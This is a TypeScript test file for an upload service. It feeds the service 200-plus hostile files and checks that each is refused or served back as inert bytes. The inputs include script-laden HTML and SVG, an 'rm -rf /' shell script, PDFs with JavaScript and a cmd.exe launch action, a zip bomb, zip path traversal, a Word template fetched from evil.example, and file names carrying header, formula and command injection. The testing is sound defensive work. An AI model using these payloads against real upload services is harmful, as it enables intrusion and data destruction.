import { deflateRawSync } from 'node:zlib';
import { expect, test } from 'vitest';
import * as documentCalls from '#contract/documents/calls.ts';
import { contentTypesOf, supportedExtensions } from '#contract/documents/files.ts';
import { texts } from '#texts/texts.ts';
import type { Answered, Client } from '../../testing/client.ts';
import { flightClaim } from '../../testing/given.ts';
import { numbersFrom } from '../../testing/numbers.ts';
import { largeFirstDocx, sentFile } from '../../testing/sent-files.ts';
import { uploadParts } from '../../testing/upload.ts';
import { onSqlite } from '../../testing/world.ts';
import { zip } from '../../testing/zip.ts';

/** A file that somebody means harm with, or that would do harm in careless hands. */
interface HostileFile {
  readonly about: string;
  readonly name: string;
  readonly content: Buffer;
}

const [pdf, png, gif, jpg] = (['pdf', 'png', 'gif', 'jpg'] as const).map(sentFile) as [Buffer, Buffer, Buffer, Buffer];
const script = '<script>document.title="owned"</script>';
const page = Buffer.from(`<!doctype html><html>${script}</html>`);
const drawing = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`);
/** The harmless file that every scanner takes for a virus; in pieces, so that none takes this one for it. */
const eicar = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''));
const after = (start: Buffer, more: Buffer | string) => Buffer.concat([start, Buffer.from(more)]);

/** What is no file of its extension, or more than one at once. */
const contents: Readonly<Record<string, Buffer>> = {
  'a page': page,
  'a page behind blanks': Buffer.from(`\n\n   ${page.toString()}`),
  'a page behind a byte order mark': Buffer.from(`\ufeff${page.toString()}`),
  'a page behind a comment': Buffer.from(`<!-- x -->${page.toString()}`),
  'a page in UTF-16': Buffer.from(`\ufeff${page.toString()}`, 'utf16le'),
  'a drawing that can run': drawing,
  'a drawing behind an XML head': Buffer.from(`<?xml version="1.0"?>${drawing.toString()}`),
  'a script': Buffer.from('alert(document.cookie)'),
  'a program of Windows': Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff', 'latin1'),
  'a program of Linux': Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0', 'latin1'),
  'a script of the shell': Buffer.from('#!/bin/sh\nrm -rf /\n'),
  'a test virus': eicar,
  nothing: Buffer.alloc(0),
  zeros: Buffer.alloc(3_000),
  'a PDF with a page behind it': after(pdf, page),
  'a PDF with a script that runs': Buffer.from(
    pdf.toString('latin1').replace('/Type/Catalog', '/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
    'latin1',
  ),
  'a PDF that starts a program': Buffer.from(
    pdf.toString('latin1').replace('/Type/Catalog', '/Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>'),
    'latin1',
  ),
  'a page with a PDF behind it': after(page, pdf),
  'a GIF that is a script too': Buffer.concat([
    gif.subarray(0, 6),
    Buffer.from('/*'),
    gif.subarray(6),
    Buffer.from('*/=1;alert(1)'),
  ]),
  'a GIF with a page behind it': after(gif, page),
  'a JPEG with a zip behind it': after(jpg, zip([{ path: 'a.exe', content: 'MZ' }])),
  'a PNG with a page in it': Buffer.concat([png.subarray(0, 33), page, png.subarray(33)]),
  'a cut PNG': png.subarray(0, 20),
  'a PNG of 50,000 by 50,000': hugePng(),
  'a JPEG of where it was taken': after(jpg.subarray(0, 2), Buffer.concat([exifWithPlace(), jpg.subarray(2)])),
  'a zip that goes up': zip([{ path: '../../etc/cron.d/x', content: 'x' }]),
  'a zip in a zip in a zip': [1, 2, 3].reduce((inner) => zip([{ path: 'a.zip', content: inner }]), zip([])),
  'a zip bomb': bomb(),
  'a Word document with a template from elsewhere': zip([
    { path: '[Content_Types].xml', content: '<Types/>' },
    {
      path: 'word/_rels/settings.xml.rels',
      content:
        '<Relationships><Relationship TargetMode="External" Target="http://evil.example/t.dotm"/></Relationships>',
    },
  ]),
  'a Word document with macros': zip([
    { path: '[Content_Types].xml', content: '<Types/>' },
    { path: 'word/vbaProject.bin', content: Buffer.alloc(100, 1) },
  ]),
  'a Word document of which nobody knows yet': largeFirstDocx,
  'a mail that is a page': Buffer.from(`Content-Type: text/html\r\n\r\n${page.toString()}`),
  'a mail with 1,000 parts inside each other': Buffer.from(
    Array.from({ length: 1_000 }, (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`).join(
      '',
    ),
  ),
};

/** Names that lead elsewhere, say what is not so, or break what they stand in. Each is given a real PDF. */
const names: readonly string[] = [
  '../../etc/passwd.pdf',
  '..\\..\\windows\\system32\\a.pdf',
  '/etc/a.pdf',
  'C:\\Users\\a.pdf',
  '\\\\server\\share\\a.pdf',
  '%2e%2e%2fa.pdf',
  '..%c0%afa.pdf',
  'a\r\nSet-Cookie: x=y.pdf',
  'a\r\n\r\n<script>.pdf',
  'a"; filename="b.exe.pdf',
  "a'b.pdf",
  'a;b.pdf',
  'a,b.pdf',
  'a%00.exe.pdf',
  'a\u0000.pdf',
  'a.pdf\u0000.exe',
  'a.exe\u0000.pdf',
  '=HYPERLINK("http://evil.example").pdf',
  '+cmd|calc.pdf',
  '@SUM(1).pdf',
  '-2+3.pdf',
  '<img src=x onerror=alert(1)>.pdf',
  '{{name}}.pdf',
  '#{7*7}.pdf',
  '\u202egpj.exe.pdf',
  'a\u202efdp.pdf',
  'a\u2066b\u2069.pdf',
  'a\u200b.pdf',
  '\ufeffa.pdf',
  'CON.pdf',
  'con.pdf',
  'NUL.pdf',
  'COM1.pdf',
  'LPT9.pdf',
  'AUX .pdf',
  'CON.x.pdf',
  '.htaccess.pdf',
  '.pdf.pdf',
  '....pdf',
  ' .pdf',
  'a.pdf.',
  'a.pdf...',
  'a.pdf ',
  'a .pdf',
  'a.PDF',
  'a.pDf',
  'e\u0301.pdf',
  '\u00e9.pdf',
  'Ångström.pdf',
  'A\u030angstro\u0308m.pdf',
  '😀.pdf',
  '\ud800.pdf',
  '𝒶.pdf',
  `${'x'.repeat(300)}.pdf`,
  `${'é'.repeat(300)}.pdf`,
  `${'😀'.repeat(200)}.pdf`,
  `a.${'x'.repeat(300)}`,
  '__proto__.pdf',
  'constructor.pdf',
  'a\tb.pdf',
  'a|b>c<d:e*f?g.pdf',
  '-rf.pdf',
  '~a.pdf',
  '$(id).pdf',
  '`id`.pdf',
];

/** Names that promise what cannot be taken, or two things at once; each with a real PDF in it. */
const refusedNames: readonly string[] = [
  'a.exe',
  'a.pdf.exe',
  'a.pdf.html',
  'a.svg',
  'a.html',
  'a.htm',
  'a.xhtml',
  'a.js',
  'a.hta',
  'a.lnk',
  'a.scr',
  'a.zip',
  'a.docm',
  'a.pdf%00',
  'a.pdf\u200b.exe',
  'a.p\u200bdf.exe',
  'a.ｐｄｆ',
  'a.рdf',
  'a',
  'pdf',
  '.pdf',
  'a.',
  '',
  'a.constructor',
  'a.__proto__',
];

/** 200 files and more, the same every time. */
function hostileFiles(): readonly HostileFile[] {
  const disguised = Object.entries(contents).flatMap(([about, content]) =>
    ['pdf', 'jpg', 'txt', 'docx', 'eml'].map((type) => ({ about: `${about}, as ${type}`, name: `a.${type}`, content })),
  );
  const named = [...names, ...refusedNames].map((name) => ({
    about: `the name ${JSON.stringify(name).slice(0, 60)}`,
    name,
    content: pdf,
  }));
  return [...disguised, ...named, ...damaged()];
}

/** Real files with a few bytes changed, by chance but always the same. */
function damaged(): HostileFile[] {
  const next = numbersFrom(1_848);
  return ['pdf', 'png', 'gif', 'webp', 'heic', 'doc', 'docx', 'xlsx', 'odt', 'msg', 'eml'].flatMap((type) =>
    Array.from({ length: 4 }, (_, turn) => {
      const content = Buffer.from(sentFile(type).subarray(0, turn === 3 ? 1 + next(60) : undefined));
      for (let change = 0; change < 8; change += 1) content[next(Math.min(content.length, 200))] = next(256);
      return { about: `a damaged ${type} (${turn})`, name: `a.${type}`, content };
    }),
  );
}

function hugePng(): Buffer {
  const huge = Buffer.from(png);
  huge.writeUInt32BE(50_000, 16);
  huge.writeUInt32BE(50_000, 20);
  return huge;
}

/** The head of a JPEG that says where a picture was taken. */
function exifWithPlace(): Buffer {
  const text = Buffer.from('Exif\0\0II*\0\x08\0\0\0\x01\0\x25\x88\x04\0\x01\0\0\0\x1a\0\0\0\0\0\0\0', 'latin1');
  return Buffer.concat([Buffer.from([0xff, 0xe1, 0, text.length + 2]), text]);
}

/** A zip of a thousand times its size. */
function bomb(): Buffer {
  const small = deflateRawSync(Buffer.alloc(10_000_000));
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(small.length, 18);
  head.writeUInt32LE(10_000_000, 22);
  head.writeUInt16LE(5, 26);
  return Buffer.concat([head, Buffer.from('a.txt'), small]);
}

const served = new Set(supportedExtensions.flatMap((extension) => contentTypesOf(`a.${extension}`) ?? []));
/** What a browser would run, or show as a page of ours. */
const active = /html|svg|xml(?!formats)|script|shockwave|hta/;
/** One plain name, and the same in UTF-8 (RFC 6266): nothing in it can end it. */
const oneName = /^attachment; filename="[\w .()-]+"; filename\*=UTF-8''[\w.~!$&+^`|%-]+$/;
const refusalsOfDocuments: Readonly<Record<string, string>> = texts.nl.portal.refusals.documents;

type Made = { Id: string; Name: string; ContentType: string }[];
const send = (client: Client, claim: { id: string }, { name, content }: HostileFile) =>
  client.parts<Made>(documentCalls.uploadFiles, uploadParts(claim.id, [{ name, content }]));

/** A refusal says why, in words of its own; it is never our fault. */
function expectRefused(answer: Answered<unknown>, about: string) {
  expect.soft([413, 415, 422], `${about}: ${answer.status}`).toContain(answer.status);
  const [section, code = ''] = (answer.code ?? '').split('.');
  if (section === 'documents') {
    expect.soft(answer.body, about).toMatchObject({ message: refusalsOfDocuments[code] });
    expect.soft(answer.body, about).toMatchObject({ fields: [{ field: 'uploadedFile_0', code: answer.code }] });
  } else expect.soft(answer.code, about).toBe('call.invalid');
}

/** What comes back is bytes to be saved, whatever they are: under one plain name, as nothing that runs. */
function expectHarmless(back: Answered<unknown>, { about, content }: HostileFile) {
  const { headers } = back;
  expect.soft(back.bytes.equals(content), about).toBe(true);
  expect.soft(served, about).toContain(headers['content-type']);
  expect.soft(headers['content-type'], about).not.toMatch(active);
  expect.soft(headers['content-disposition'], about).toMatch(oneName);
  expect.soft(headers['x-content-type-options'], about).toBe('nosniff');
  expect.soft(headers['content-security-policy'], about).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
  expect.soft(headers['set-cookie'], about).toBeUndefined();
}

onSqlite('a hostile file', (world) => {
  const all = hostileFiles();

  test(`[UPLOAD-3, FILES-3] of ${all.length}, each is refused in words or served as nothing but bytes`, async () => {
    expect(all.length).toBeGreaterThan(200);
    const { client, onDisk, claim } = await world({ claims: [flightClaim()] });
    const stored: string[] = [];
    for (const file of all) {
      const answer = await send(client, claim, file);
      const [made] = answer.status === 200 ? answer.body : [];
      if (!made) {
        expectRefused(answer, file.about);
        continue;
      }
      stored.push(file.about);
      expect.soft(made.Name, file.about).toMatch(/^[^\p{Cc}\p{Cf}\p{Cs}<>:"/\\|?*]{1,140}$/u);
      expect.soft(made.Name, file.about).not.toMatch(/^[. ]|[. ]$|^(?:con|nul|aux|prn|com\d|lpt\d)\./i);
      expectHarmless(await client.download({ fileId: made.Id }), file);
    }
    expect((await onDisk()).arriving).toEqual([]);
    // Neither everything nor nothing: what is only suspicious is somebody's paper.
    expect(stored.length).toBeGreaterThan(60);
    expect(stored.length).toBeLessThan(all.length - 100);
  });
});
